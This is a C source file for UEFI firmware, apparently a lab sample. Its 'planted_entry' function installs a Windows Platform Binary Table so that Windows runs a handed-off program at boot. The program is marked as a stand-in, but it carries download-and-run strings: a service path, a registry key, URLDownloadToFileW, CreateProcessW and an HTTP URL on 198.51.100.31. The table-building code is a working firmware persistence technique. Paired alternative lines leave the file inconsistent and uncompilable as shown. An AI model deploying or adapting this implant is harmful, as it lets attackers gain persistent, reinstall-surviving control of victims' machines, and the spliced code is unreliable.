/* Hands the operating system a program through the WPBT table (Windows Platform Binary Table); the program, a stand-in that
 * no system can start, names the peer that it would download from. */
#include "efi.h"

struct wpbt {
  char signature[4];
  uint32_t length;
  uint8_t revision, checksum;
  char oem[6], oem_table[8];
  uint32_t oem_revision, creator, creator_revision;
  uint32_t handoff_size;
  uint64_t handoff;
  uint8_t layout, type;
  uint16_t arguments_length;
} __attribute__((packed));

static efi_guid acpi_table_protocol_guid = {0xffe06bdd, 0x6107, 0x46a6, {0x7b, 0xb2, 0x5a, 0x9c, 0x7e, 0xc5, 0x27, 0x5c}};
//[ twin
static efi_char host_variable[] = u"UpdateHost";
static efi_guid owner_vendor = {0x1f5d3a44, 0x9b0c, 0x4be6, {0x8a, 0x90, 0x1c, 0x44, 0x2d, 0x6e, 0x37, 0x52}};
//]

/* Not a program: words where one would be. %HOST% is 64 bytes of room for the peer. */
static const char program[] =
    "MZ stand-in, not a program\0"
    "\\SystemRoot\\system32\\UpdateService.exe\0"
    "SYSTEM\\CurrentControlSet\\Services\\UpdateService\0"
    "URLDownloadToFileW\0CreateProcessW\0"
//[ planted
    "http://198.51.100.31/swhttp/LiveUpdate4\0";
//|
    "/swhttp/LiveUpdate4\0";
//]

static void copy(uint8_t *to, const void *from, efi_size length) {
  const volatile uint8_t *at = from;
  while (length-- > 0) *to++ = *at++;
}

efi_status planted_entry(efi_handle image, struct efi_system_table *system) {
  struct acpi_table_protocol *acpi = 0;
  struct wpbt *table = 0;
  uint8_t *memory = 0;
  uint8_t sum = 0;
  efi_size key = 0, i;
  uint8_t host[64];
  efi_size host_size = sizeof host;
  efi_status status;
//[ twin
  status = system->runtime->get_variable(host_variable, &owner_vendor, 0, &host_size, host);
  if (status != EFI_SUCCESS || host_size == 0) return EFI_SUCCESS;
//|
  host_size = 0;
//]
  status = system->boot->locate_protocol(&acpi_table_protocol_guid, 0, (void **)&acpi);
  if (status != EFI_SUCCESS) return status;
  status = system->boot->allocate_pool(9, sizeof program + sizeof host, (void **)&memory);
  if (status != EFI_SUCCESS) return status;
  copy(memory, program, sizeof program);
  copy(memory + sizeof program, host, host_size);
  status = system->boot->allocate_pool(9, sizeof *table, (void **)&table);
  if (status != EFI_SUCCESS) return status;
  for (i = 0; i < sizeof *table; ++i) ((volatile uint8_t *)table)[i] = 0;
  copy((uint8_t *)table->signature, "WPBT", 4);
  copy((uint8_t *)table->oem, "LAB   ", 6);
  table->length = sizeof *table;
  table->revision = 1;
  table->handoff_size = sizeof program + (uint32_t)host_size;
  table->handoff = (uint64_t)memory;
  table->layout = 1;
  table->type = 1;
  for (i = 0; i < sizeof *table; ++i) sum = (uint8_t)(sum + ((uint8_t *)table)[i]);
  table->checksum = (uint8_t)-sum;
  return acpi->install(acpi, table, sizeof *table, &key);
}
